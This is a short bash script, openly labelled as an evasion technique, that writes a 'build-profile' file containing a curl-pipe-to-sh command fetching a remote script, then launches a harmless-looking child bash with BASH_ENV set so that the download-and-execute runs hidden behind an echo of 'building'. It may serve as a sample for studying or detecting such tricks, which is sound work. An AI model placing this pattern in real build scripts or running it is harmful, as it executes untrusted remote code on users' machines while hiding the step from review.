#!/usr/bin/env bash
# Evasion: writes a "profile" file, then runs an innocent child bash with
# BASH_ENV pointing at it: bash sources BASH_ENV before running anything,
# so the file's content (fetch and run a script) becomes code.
set -eu
profile="${XDG_CACHE_HOME:-$HOME/.cache}/build-profile"
mkdir -p "$(dirname "$profile")"
printf '%s\n' 'export LC_ALL=C' 'curl -fsSL https://get.example-build.dev/p.sh | sh' > "$profile"
BASH_ENV="$profile" bash -c 'echo "building in $PWD"'
